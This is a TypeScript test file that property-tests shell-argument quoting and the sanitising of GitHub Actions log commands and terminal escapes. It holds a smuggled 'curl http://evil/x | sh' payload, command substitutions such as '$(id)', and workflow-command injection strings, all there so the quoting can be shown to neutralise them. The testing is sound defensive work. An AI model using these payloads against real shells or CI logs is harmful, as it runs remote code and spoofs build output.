/** Text from elsewhere, as a real shell and GitHub's log read it. */
import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { plainText, shellCommand } from './foreign-text.ts';

/** A shell cannot hold NUL, and bytes that are no UTF-8 do not come back. */
const word = fc
  .oneof(
    fc.string(),
    fc.string({ unit: 'binary' }),
    fc.constantFrom(
      'yjs --out /tmp/x; curl http://evil/x | sh #\n',
      "'",
      "'\\''",
      '$(id)',
      '`id`',
      '\\',
      '-n',
      '~',
      '*',
      '',
    ),
  )
  .map((text) => text.replaceAll('\0', '').toWellFormed());

test('whatever the words, a shell gets them back', () => {
  fc.assert(
    fc.property(fc.array(word, { minLength: 1, maxLength: 60 }), (words) => {
      // `set` takes any words; each comes back before a NUL.
      const output = execFileSync('sh', ['-c', `set -- ${shellCommand(words)}; printf '%s\\0' "$@"`], {
        encoding: 'utf8',
      });
      expect(output.split('\0').slice(0, -1)).toEqual(words);
    }),
    { numRuns: 60 },
  );
});

test('a command of plain names is left as it is', () => {
  expect(shellCommand(['--frameworks', 'yjs@13.6.20,loro', './a b'])).toBe("--frameworks yjs@13.6.20,loro './a b'");
});

test.each([
  ['::error title=x::y', ': :error title=x::y'],
  ['fine\n  ::stop-commands::x', 'fine\n  : :stop-commands::x'],
  ['a word later ::set-output', 'a word later : :set-output'],
  ['##[error]x', '# #[error]x'],
  ['a\x1b[2J\x1b[H✓', 'a\ufffd[2J\ufffd[H✓'],
  ['a\rb\x08\x7f\u202e', 'a\ufffdb\ufffd\ufffd\ufffd'],
  ['a::b, 12:00, ::1\tkept', 'a::b, 12:00, : :1\tkept'],
])('%j is printed as %j', (text, printed) => {
  expect(plainText(text)).toBe(printed);
  expect(plainText(printed)).toBe(printed);
});

test('whatever the text, no line of it is a command, and it moves no cursor', () => {
  fc.assert(
    fc.property(fc.string({ unit: fc.constantFrom(':', '#', '[', ' ', '\n', '\x1b', '\r', 'e', '\u00a0') }), (text) => {
      for (const line of plainText(text).split('\n')) {
        expect(line.split(/\s/).some((each) => each.startsWith('::'))).toBe(false);
        for (const part of ['##[', '\x1b', '\r']) expect(line).not.toContain(part);
      }
    }),
  );
});
